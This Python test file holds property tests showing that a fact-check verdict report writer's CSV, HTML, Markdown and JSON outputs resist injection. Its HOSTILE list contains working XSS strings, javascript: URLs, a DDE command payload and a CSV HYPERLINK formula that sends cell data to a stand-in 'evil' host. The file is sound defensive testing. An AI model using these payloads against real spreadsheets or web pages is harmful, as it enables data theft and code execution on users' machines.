"""Properties of the report writers, for any verdict records: data formats parse back to
the same values, CSV cells cannot start a formula, HTML gains no tag, handler or link from
the data, and Markdown gains no link, raw HTML or table column."""

from __future__ import annotations

import csv
import io
import json
from html.parser import HTMLParser

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

import reports
from reports.options import ReportOptions
from store.models import VERDICTS, VerdictRecord

HOSTILE = ["<img src=x onerror=alert(1)>", "</title><script>alert(1)</script>", "javascript:alert(1)",
           "=HYPERLINK(\"http://evil/?\"&A1,\"x\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)",
           "\t=1", "\r=1", "[x](javascript:alert(1))", "| a | b |", "# heading", "<!--<script>",
           "\u2028", "\x85", "\u202eetad", "\x1b[31m", "&amp;", "]]>", "`code`", "*em*", "\\"]
texts = st.one_of(st.text(max_size=60), st.sampled_from(HOSTILE),
                  st.lists(st.sampled_from(HOSTILE), max_size=3).map(" ".join))
urls = st.one_of(st.just(""), st.sampled_from(["https://ok.example/a?b=1&c=<2>", "javascript:alert(1)",
                                               "http://x.example/\"onmouseover=alert(1)", "data:text/html,x"]),
                 texts)
records = st.builds(
    VerdictRecord,
    claim_id=st.integers(1, 10**6), claim_text=texts, verdict=st.sampled_from(VERDICTS), note=texts,
    checker=texts, at=st.just("2024-05-01T09:00:00+00:00"), article_id=st.integers(1, 50),
    article_title=texts, article_url=urls, article_source=texts, article_published=texts,
    best_match_text=texts, best_match_source=texts, best_match_url=urls, best_match_rating=texts,
    best_match_score=st.one_of(st.none(), st.floats(0, 100)),
    evidence=st.lists(urls, max_size=3).map(tuple),
)
record_lists = st.lists(records, min_size=1, max_size=5)
OPTIONS = ReportOptions(base_url="https://desk.example/reviews", include_unverified=True)
PROPERTY = settings(max_examples=80, deadline=None, suppress_health_check=[HealthCheck.too_slow])
TEXT_FIELDS = ("claim_text", "note", "checker", "article_title", "article_source", "best_match_text")


def render(items: list[VerdictRecord], fmt: str) -> str:
    stream = io.StringIO()
    assert reports.write_report(items, fmt, stream, OPTIONS) == len(items)
    return stream.getvalue()


@PROPERTY
@given(record_lists)
def test_json_and_jsonl_parse_back_to_the_same_values(items: list[VerdictRecord]) -> None:
    parsed = json.loads(render(items, "json"))
    lines = render(items, "jsonl").splitlines()  # str.splitlines: U+2028 must not cut a record
    assert len(lines) == len(items)
    for record, obj, line in zip(items, parsed, lines):
        assert json.loads(line) == obj
        for field in TEXT_FIELDS:
            assert obj[field] == getattr(record, field)
        assert obj["claim_id"] == record.claim_id


@PROPERTY
@given(record_lists)
def test_csv_parses_back_and_no_cell_starts_a_formula(items: list[VerdictRecord]) -> None:
    out = render(items, "csv")
    rows = list(csv.reader(io.StringIO(out.removeprefix("\ufeff"), newline="")))
    header, body = rows[0], rows[1:]
    assert len(body) == len(items)
    for record, row in zip(items, body):
        assert len(row) == len(header)
        cells = dict(zip(header, row))
        assert cells["claim_id"] == str(record.claim_id)
        for field in TEXT_FIELDS:
            value = getattr(record, field)
            assert cells[field] in (value, "'" + value)
            assert not cells[field].startswith(("=", "+", "-", "@", "\t", "\r", "\0"))


@PROPERTY
@given(record_lists)
def test_claimreview_parses_back(items: list[VerdictRecord]) -> None:
    document = json.loads(render(items, "claimreview"))
    reviews = document["@graph"] if isinstance(document, dict) else document
    assert len(reviews) == len(items)


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: set[str] = set()
        self.handlers: list[str] = []
        self.links: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        for name, value in attrs:
            if name.lower().startswith("on"):
                self.handlers.append(name)
            if name in {"href", "src", "action", "formaction", "xlink:href"}:
                self.links.append(value or "")


def _benign(item: VerdictRecord) -> VerdictRecord:
    from dataclasses import replace

    fill = {f: "plain words" for f in (*TEXT_FIELDS, "best_match_rating", "article_published")}
    return replace(item, article_url="https://a.example/1", best_match_url="https://b.example/2",
                   evidence=("https://e.example/3",), best_match_score=50.0, **fill)


@PROPERTY
@given(record_lists)
def test_html_gains_no_tag_handler_or_link_from_the_data(items: list[VerdictRecord]) -> None:
    hostile, benign = _Tags(), _Tags()
    hostile.feed(render(items, "html"))
    benign.feed(render([_benign(i) for i in items], "html"))
    assert hostile.tags <= benign.tags, hostile.tags - benign.tags
    assert hostile.handlers == []
    assert all(link.startswith(("http://", "https://", "#")) for link in hostile.links), hostile.links


markdown_it = pytest.importorskip("markdown_it", reason="markdown-it-py renders the Markdown report")


@PROPERTY
@given(record_lists)
def test_markdown_gains_no_link_raw_html_or_column_from_the_data(items: list[VerdictRecord]) -> None:
    tokens = markdown_it.MarkdownIt("commonmark").enable("table").parse(render(items, "md"))
    flat = []
    for token in tokens:
        flat.append(token)
        flat.extend(token.children or [])
    assert not [t for t in flat if t.type in ("html_inline", "html_block")]
    for t in flat:
        if t.type == "link_open":
            assert str(t.attrs.get("href", "")).startswith(("http://", "https://")), t.attrs
    row_cells: list[int] = []
    for t in flat:
        if t.type == "tr_open":
            row_cells.append(0)
        elif t.type in ("th_open", "td_open"):
            row_cells[-1] += 1
    if row_cells:
        header_cells, *body_cells = row_cells
        assert all(n == header_cells for n in body_cells), row_cells
